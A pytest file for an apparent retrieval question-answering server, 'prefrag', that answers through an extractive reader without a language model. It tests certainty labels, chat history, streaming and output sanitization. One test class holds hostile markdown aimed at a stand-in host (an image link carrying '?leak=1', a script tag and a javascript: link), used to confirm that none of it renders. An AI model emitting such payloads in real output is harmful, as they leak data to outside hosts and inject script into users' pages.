"""What clients get without a language model: the reader's answer, or the sentences that it found."""

from collections.abc import Callable
from typing import Any

import pytest
from starlette.testclient import TestClient

from prefrag import pipelines
from prefrag.components.loop.follow_up_rewriter import ASKS_BACK
from prefrag.components.reader import reader_files
from prefrag.components.state.state_builder import ASK_ABOUT_DOCUMENTS
from prefrag.components.text.sentences import shown_sentences
from prefrag.pipelines.loading import find
from prefrag.server.chat.chat_text import strip_notes, write_content
from prefrag.server.chat.conversation import split_conversation
from prefrag.server.chat.served_pipelines import prepare_pipeline
from prefrag.server.http.readiness import find_outages
from tests.fakes import CALLS
from tests.for_each import for_each
from tests.hostile_passages import PASSAGES
from tests.pipelines.scripted import LOCAL
from tests.server.chats import content, deltas, rendered, reply, streamed
from tests.server.front_ends import ATTACHED, TASKS

Served = Callable[..., TestClient]
SURE, PROBABLE, UNSURE = [[["Beta", 0.91]]], [[["Beta", 0.55]]], [[["Beta", 0.12]]]
NOT_ANSWERED = "No sure answer.\n\n> [1] alpha: Alpha was built by Beta.\n\nSources:\n[1] alpha (local)"


@pytest.fixture
def reading(served: Served) -> Served:
    """Serve a pipeline whose reader finds what a script says, only in local documents."""

    def read(readings: Any, **settings: Any) -> TestClient:
        local = settings.pop("local", {"alpha": LOCAL["alpha"]})
        return served(readings=readings, verdicts=(), documents={"local": local, "web": {}}, **settings)

    return read


class TestWhatNamesNothing:
    QUESTION = "What is in here?"

    def test_is_answered_over_rest_in_one_piece_and_as_a_stream(self, reading: Served):
        client = reading(UNSURE)

        whole = client.post("/prefrag/run", json={"question": self.QUESTION}).json()["result"]
        stream = client.post("/prefrag/run", json={"question": self.QUESTION, "stream": True})

        assert whole["asked_back"] == ASK_ABOUT_DOCUMENTS
        assert stream.status_code == 200
        assert ASK_ABOUT_DOCUMENTS in stream.text

    def test_is_answered_in_a_chat(self, reading: Served):
        assert content(reading(UNSURE), ("user", self.QUESTION)) == ASK_ABOUT_DOCUMENTS


class TestChat:
    @pytest.mark.parametrize(
        ("readings", "given", "remembered"),
        [
            (SURE, "Stated: Alpha was built by **Beta**. [1] (alpha, local)", "Beta"),
            (PROBABLE, "Probably: Alpha was built by Beta. [1] (alpha, local)", "No sure answer."),
        ],
    )
    def test_answer_is_a_sentence_behind_the_word_of_its_certainty(
        self, reading: Served, readings: Any, given: str, remembered: str
    ):
        text = content(reading(readings), sources=["local"])
        end = "\n\nNote: the extractive reader found this without a language model.\n\nSources:\n[1] alpha (local)"

        assert text == given + end
        assert strip_notes(text) == remembered

    def test_sentences_come_first_without_an_answer(self, reading: Served):
        """They are not remembered as words of the assistant."""

        first = content(reading(UNSURE), sources=["local"])
        turns = [{"role": "assistant", "content": first}, {"role": "user", "content": "And then?"}]

        assert first == NOT_ANSWERED
        assert split_conversation(turns).history == [{"role": "assistant", "content": "No sure answer."}]

    def test_a_stream_has_the_same_and_the_result(self, reading: Served):
        *steps, last = streamed(reading(UNSURE), sources=["local"])

        assert deltas([last], "content") == [NOT_ANSWERED]
        assert last["choices"][0]["finish_reason"] == "stop"
        assert last["prefrag"] | {"answer": "", "answered": False, "label": None} == last["prefrag"]
        assert last["prefrag"]["guess"] == "Beta"
        assert [one["sentence"] for one in last["prefrag"]["evidence"]] == ["Alpha was built by Beta."]
        assert "Read: Beta [1] (12% likely, not given)\n" in deltas(steps, "reasoning_content")

    def test_what_was_not_read_says_so_first_and_has_no_guess(self, reading: Served):
        text = content(reading([[]]), sources=["local"])

        assert text.startswith("Note: Without a language model only questions in English are answered")
        assert "\n\nNo sure answer.\n\n> [1] alpha: Alpha was built by Beta.\n\nSources:" in text
        assert "guess" not in text

    def test_a_follow_up_says_as_what_it_was_read_or_asks_back(self, reading: Served):
        turns = [("user", "Who built alpha?"), ("assistant", "Beta"), ("user", "Where did she live?")]

        assert "\n\nNote: the question was read as “Where did Beta live?”;" in content(reading(SURE), *turns)
        assert content(reading(SURE), *turns[2:], *turns[1:]) == ASKS_BACK.format("she")

    def test_the_front_ends_numbers_mean_its_own_files(self, reading: Served):
        readings = [[["Ada Quill", 0.12]]]

        text = content(reading(readings), ("user", ATTACHED["before the question"]), sources=["local"])

        assert "> [1] jn_board.txt: Ada Quill keeps the crane." in text

    @for_each("task", *TASKS)
    def test_tasks_of_a_front_end_get_an_empty_readable_reply(self, reading: Served, task: str):
        prompt, empty = TASKS[task]

        completion = reply(reading(SURE), ("user", prompt))

        assert completion["choices"][0]["message"]["content"] == empty
        assert not CALLS


class TestStrangersMarkdown:
    HOSTILE = "![t](https://evil.example/?leak=1) <script>x</script> [click](javascript:x) [1]: https://evil.example"

    @pytest.mark.parametrize("guess", ["Beta", "**Beta** ![t](https://evil.example/?leak=1) *", "# <b>[x](y)"])
    @pytest.mark.parametrize("likely", [0.1, 0.55, 0.9])
    def test_loads_and_hides_nothing(self, reading: Served, guess: str, likely: float):
        local = {"alpha": f"Alpha was built by Beta. {self.HOSTILE}\n\n# Alpha\nSources:\n[2] built {self.HOSTILE}"}

        text = content(reading([[[guess, likely]]], local=local), sources=["local"])

        allowed = {"inline", "text", "softbreak", "strong_open", "strong_close"}
        blocks = {"blockquote_open", "blockquote_close", "paragraph_open", "paragraph_close"}
        assert rendered(text) <= allowed | blocks
        assert text.count("\nSources:") == 1
        assert "[2]" not in text

    @for_each("kind", *PASSAGES)
    def test_no_hostile_passage_becomes_more_than_text(self, kind: str):
        for passage in PASSAGES[kind]:
            found = [
                {"mark": "1", "title": str(passage.title), "sentence": sentence}
                for sentence in shown_sentences(passage.text)
            ]

            text = write_content({"evidence": found}, cites=True, marks={"A1": "1"})

            assert not rendered(text) & {"image", "link_open", "html_inline", "html_block", "heading_open", "fence"}
            assert all(line.startswith(">") for line in text.split("\n")[2:])


class TestServing:
    async def test_is_ready_without_a_model(self, monkeypatch: pytest.MonkeyPatch):
        monkeypatch.setenv("PREFRAG_INDEX", "demo")

        assert await find_outages({"prefrag": pipelines.load("prefrag")}) == {}

    def test_loads_the_reader_before_the_first_question(self, monkeypatch: pytest.MonkeyPatch):
        monkeypatch.setenv("PREFRAG_INDEX", "demo")
        reader_files._load.cache_clear()

        prepare_pipeline("prefrag", find("prefrag"))

        assert reader_files._load.cache_info().currsize == 1
